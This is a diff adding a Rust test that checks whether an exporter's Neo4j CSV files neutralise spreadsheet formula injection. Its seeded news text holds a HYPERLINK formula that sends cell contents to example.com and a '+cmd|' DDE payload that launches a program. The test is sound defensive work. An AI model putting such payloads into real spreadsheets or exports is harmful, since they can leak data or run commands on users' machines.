@@ -415,3 +415,78 @@ fn memgraph_script() {
         .filter(|l| l.starts_with("LOAD CSV"))
         .all(|l| l.ends_with(';')));
 }
+
+#[test]
+fn csv_cells_are_never_spreadsheet_formulas() {
+    // A news report whose headline and body would run in a spreadsheet.
+    let news = "=HYPERLINK(\"http://example.com/?\"&A1,\"bấm\")\n\
+Đắc Quang 10:53 - 24/11/2022\n\
++cmd|' /C calc'!A0 Hội Khuyến học tỉnh Tuyên Quang ký kết chương trình phối hợp \
+theo Quyết định số 1373/QĐ-TTg ngày 30/7/2021.\n";
+    let d = seeded(&[("@formula.txt", news)]);
+    let o = d.cancu(&["export", "--format", "csv", "-o", "neo4j"]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let nodes = std::fs::read_to_string(d.path().join("neo4j/nodes.csv")).unwrap();
+    let edges = std::fs::read_to_string(d.path().join("neo4j/edges.csv")).unwrap();
+    // The header rows are Neo4j's, as they were.
+    assert_eq!(
+        nodes.lines().next().unwrap(),
+        "id:ID,kind,label,instrument,province,period,document_kind,date,title,parent,placeholder,:LABEL"
+    );
+    assert_eq!(
+        edges.lines().next().unwrap(),
+        ":START_ID,:END_ID,:TYPE,cue,document,span"
+    );
+    if !have("python3", &["-c", "import csv"]) {
+        return;
+    }
+    // Read back by Python's csv module (RFC 4180), strictly.
+    let script = r#"
+import csv, json, sys
+out = {}
+for name in ("nodes", "edges"):
+    with open(sys.argv[1] + "/" + name + ".csv", newline="", encoding="utf-8") as f:
+        out[name] = list(csv.reader(f, strict=True))
+print(json.dumps(out))
+"#;
+    let o = Command::new("python3")
+        .args(["-c", script, d.path().join("neo4j").to_str().unwrap()])
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "csv: {}", String::from_utf8_lossy(&o.stderr));
+    let read: Value = serde_json::from_slice(&o.stdout).unwrap();
+    for name in ["nodes", "edges"] {
+        let rows = read[name].as_array().unwrap();
+        let width = rows[0].as_array().unwrap().len();
+        for row in rows {
+            let row = row.as_array().unwrap();
+            assert_eq!(row.len(), width, "{name}: {row:?}");
+            for cell in row {
+                let cell = cell.as_str().unwrap();
+                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{name}: {cell:?}");
+            }
+        }
+    }
+    let title = read["nodes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|r| r[0] == "doc:corpus/@formula.txt")
+        .map(|r| r[8].as_str().unwrap().to_string())
+        .expect("the document's node");
+    assert_eq!(title, "'=HYPERLINK(\"http://example.com/?\"&A1,\"bấm\")");
+    // The ids edges name are the ids of nodes.
+    let ids: std::collections::BTreeSet<&str> = read["nodes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .skip(1)
+        .map(|r| r[0].as_str().unwrap())
+        .collect();
+    for e in read["edges"].as_array().unwrap().iter().skip(1) {
+        assert!(
+            ids.contains(e[0].as_str().unwrap()) && ids.contains(e[1].as_str().unwrap()),
+            "{e:?}"
+        );
+    }
+}
